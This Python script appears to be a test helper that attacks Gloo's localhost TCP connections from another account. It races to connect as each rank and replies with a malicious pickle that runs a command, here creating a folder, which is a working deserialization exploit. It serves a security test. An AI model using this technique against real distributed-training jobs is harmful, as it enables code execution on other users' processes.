"""Another account that races for the connections of a run's Gloo groups: see test_gloo_pairs.py.

Standard library alone. It looks for sockets of the victim's account that begin to listen at 127.0.0.1, and connects to
each at once as every rank (Gloo asks a caller for 8 bytes: the number of a pair). Where it is taken for one it answers
what it is asked for, as a member would: with a pickle that makes a folder.

    python gloo_stranger.py VICTIM'S-UID SIZE FOLDER HOW

HOW: "answers", or "silent", or "garbage" (random bytes). Prints a line of JSON for each message of a victim's.
"""

import json
import os
import select
import socket
import struct
import sys

PREAMBLE = struct.Struct("=6Q")  # bytes in all, kind, slot, offset, length, remote offset (gloo/transport/tcp/pair.h)
UNBOUND, SEND_READY, RECV_READY = 1, 2, 3
LENGTH = 4096


def say(**what: object) -> None:
    """Report to the test."""
    print(json.dumps(what), flush=True)


class Caller:
    """A connection to a victim."""

    def __init__(self, port: int, pair: int, how: str, payload: bytes) -> None:
        self.port, self.how, self.payload = port, how, payload
        self.taken = False
        self.message = b""
        self.connection = socket.socket()
        self.connection.connect(("127.0.0.1", port))
        self.connection.sendall(struct.pack("=q", pair))
        if how == "garbage":
            self.connection.sendall(os.urandom(4096))
        self.connection.setblocking(False)

    def heed(self) -> bool:
        """Read what has arrived, and answer it; returns False once the victim has closed the connection."""
        try:
            data = self.connection.recv(65536)
        except BlockingIOError:
            return True
        except OSError:
            data = b""
        if not data:
            return False
        if not self.taken:
            self.taken = True
            say(taken=self.port)
        self.message += data
        while len(self.message) >= PREAMBLE.size:
            _, kind, slot, _, length, _ = PREAMBLE.unpack_from(self.message)
            self.message = self.message[PREAMBLE.size + (length if kind == UNBOUND else 0) :]
            if self.how == "answers":
                self.answer(kind, slot, length)
        return True

    def answer(self, kind: int, slot: int, length: int) -> None:
        """Do what a member would do."""
        if kind == RECV_READY:
            say(asked=length)
            # The first 16 bytes that a sync asks for: how long its stream is, and where the pickles begin.
            what = struct.pack("=qq", LENGTH, 0) if length == 16 else self.payload.ljust(length, b".")[:length]
            self.connection.sendall(PREAMBLE.pack(PREAMBLE.size + length, UNBOUND, slot, 0, length, 0) + what)
        elif kind == SEND_READY:
            self.connection.sendall(PREAMBLE.pack(PREAMBLE.size, RECV_READY, slot, 0, length, 0))


def listening(table: int, uid: bytes) -> set[int]:
    """The ports at 127.0.0.1 at which an account listens."""
    found = set()
    for line in os.pread(table, 1 << 20, 0).splitlines()[1:]:
        fields = line.split()
        if fields[3] == b"0A" and fields[7] == uid and fields[1].startswith(b"0100007F:"):
            found.add(int(fields[1][9:], 16))
    return found


def main(uid: str, size: str, folder: str, how: str) -> None:
    """Attack until killed."""
    payload = b"cos\nmkdir\n(S'" + folder.encode() + b"'\ntR."
    table = os.open("/proc/self/net/tcp", os.O_RDONLY)
    known: set[int] = set()
    callers: dict[int, Caller] = {}
    events = select.epoll()
    say(ready=os.getuid())
    while True:
        now = listening(table, uid.encode())
        for port in now - known:
            for pair in range(int(size)):
                try:
                    caller = Caller(port, pair, how, payload)
                except OSError:
                    continue
                callers[caller.connection.fileno()] = caller
                events.register(caller.connection, select.EPOLLIN)
        known = now
        for fd, _ in events.poll(0.001):  # a place is free for LATE: it need not take a core to be in time
            if not callers[fd].heed():
                events.unregister(fd)
                callers.pop(fd).connection.close()


if __name__ == "__main__":
    main(*sys.argv[1:])
